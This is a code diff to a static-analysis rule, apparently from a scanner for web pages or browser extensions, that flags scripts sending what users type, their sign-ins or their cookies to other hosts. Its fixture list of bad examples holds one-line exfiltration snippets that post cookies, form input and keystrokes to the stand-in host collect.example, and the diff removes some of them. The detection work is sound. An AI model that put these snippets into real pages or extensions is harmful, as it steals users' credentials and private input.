@@ -3,6 +3,9 @@ import { hitsOfFlows } from '../../flows/hits.ts';
 import { placeAt, show } from '../../facts/javascript/query.ts';
 import type { SourceKind } from '../../flows/kinds.ts';
 import { sample } from '../../flows/sample.ts';
+import { dataClassOf } from '../../verdict/dataClassOf.ts';
+import { receiverOf } from '../../verdict/destinationOf.ts';
+import { sendingVerdict } from '../../verdict/sendingVerdict.ts';
 import { sendingWeight } from '../../verdict/sendingWeight.ts';
 import { defineRule } from '../../rule.ts';
 
@@ -33,12 +36,20 @@ export default defineRule({
   cap: { grade: 'F', reason: 'it sends what people type, or their sign-ins, to others', from: 'critical' },
   *check(facts) {
     const { flows, forms = [] } = facts.whole(flowsOf);
-    yield* hitsOfFlows(flows, (flow) => (KINDS.has(flow.source.kind) ? sendingWeight(facts, flow) : undefined));
+    yield* hitsOfFlows(flows, (flow) =>
+      KINDS.has(flow.source.kind) && dataClassOf(facts, flow.source) !== 'private'
+        ? sendingWeight(facts, flow)
+        : undefined,
+    );
     for (const { unit, pos, value, to } of forms) {
+      const receiver = receiverOf(facts, to);
+      const severity = receiver === undefined ? 'high' : sendingVerdict('credentials', receiver, 'none');
+      if (severity === undefined) continue;
       const place = placeAt(unit.script, unit.file.path, pos);
       yield {
         place,
         evidence: show(unit.script, value),
+        severity,
         message: `What is typed into a form of the page is sent to ${to.slice(0, 80)} instead.`,
         path: [
           { place, label: 'what is typed into a form of the page' },
@@ -49,6 +60,7 @@ export default defineRule({
   },
   examples: {
     bad: [
+      sample({ content: 'fetch("https://collect.example/c", { method: "POST", body: document.cookie });' }),
       sample({
         content: "document.querySelectorAll('form').forEach((f) => { f.action = 'https://collect.example/f'; });",
       }),
@@ -77,11 +89,6 @@ export default defineRule({
         background:
           'chrome.runtime.onMessage.addListener((m) => { fetch("https://collect.example", { method: "POST", body: m.k }); });',
       }),
-      sample({ content: 'fetch("https://collect.example/c", { method: "POST", body: document.cookie });' }),
-      sample({
-        background:
-          'chrome.tabs.captureVisibleTab(null, {}, (png) => { fetch("https://collect.example/s", { method: "POST", body: png }); });',
-      }),
       sample({
         content: '$("input").on("change", function () { $.post("https://collect.example/v", { v: $(this).val() }); });',
       }),
@@ -90,27 +97,11 @@ export default defineRule({
       }),
       sample({
         content:
-          'const frame = document.createElement("iframe"); frame.src = "https://panel.example/side"; document.body.append(frame); window.addEventListener("message", () => { frame.contentWindow.postMessage({ mail: document.querySelector(".message").innerText }, "*"); });',
-      }),
-      sample({
-        content:
           'const pc = new RTCPeerConnection(); const line = pc.createDataChannel("a"); document.addEventListener("change", (e) => { line.send(e.target.value); });',
       }),
       sample({
         content:
-          'setInterval(async () => { const last = [...document.querySelectorAll(".answer")].pop(); await fetch("https://collect.example/a", { method: "POST", body: last.innerText }); }, 5000);',
-      }),
-      sample({
-        content:
           'document.addEventListener("input", (e) => { document.body.style.backgroundImage = "url(https://collect.example/i.png?" + e.target.value + ")"; });',
-      }),
-      sample({
-        files: {
-          'mic.html': '<script src="mic.js"></script>',
-          'mic.js':
-            'const R = window.SpeechRecognition || window.webkitSpeechRecognition; const r = new R(); r.onresult = (e) => { const said = [...e.results].map((x) => x[0].transcript).join(" "); navigator.sendBeacon("https://collect.example/h", said); }; r.start();',
-        },
-        background: 'chrome.tabs.create({ url: "mic.html", active: false });',
       }),
       sample({
         content:
